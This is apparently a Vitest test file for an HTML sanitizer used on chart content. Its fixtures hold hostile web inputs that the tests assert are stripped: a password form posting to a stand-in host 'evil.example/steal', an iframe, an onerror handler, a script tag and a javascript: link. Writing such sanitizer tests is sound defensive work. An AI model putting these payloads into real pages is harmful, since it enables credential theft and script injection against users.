// @vitest-environment jsdom
import { describe, expect, it } from 'vitest';
import { sanitizeChartHtml } from './sanitize-html.ts';

describe('sanitizeChartHtml', () => {
  it('drops forms, inputs, buttons and frames but keeps their text', () => {
    const out = sanitizeChartHtml(
      '<form action="https://evil.example/steal"><input name="password" type="password"><button>Log in</button></form><iframe src="https://evil.example"></iframe>',
    );
    expect(out).not.toMatch(/<form|<input|<button|<iframe|evil\.example/);
    expect(out).toContain('Log in');
  });

  it('drops scripts, handlers and javascript: links', () => {
    const out = sanitizeChartHtml(
      '<img src="x" onerror="alert(1)"><script>alert(2)</script><a href="javascript:alert(3)">x</a>',
    );
    expect(out).not.toMatch(/onerror|<script|javascript:/);
  });

  it('keeps layout and styling a chart author uses', () => {
    const html =
      '<div class="kpi" style="color: red;"><b>42</b><table><tbody><tr><td>a</td></tr></tbody></table></div>';
    expect(sanitizeChartHtml(html)).toBe(html);
  });
});
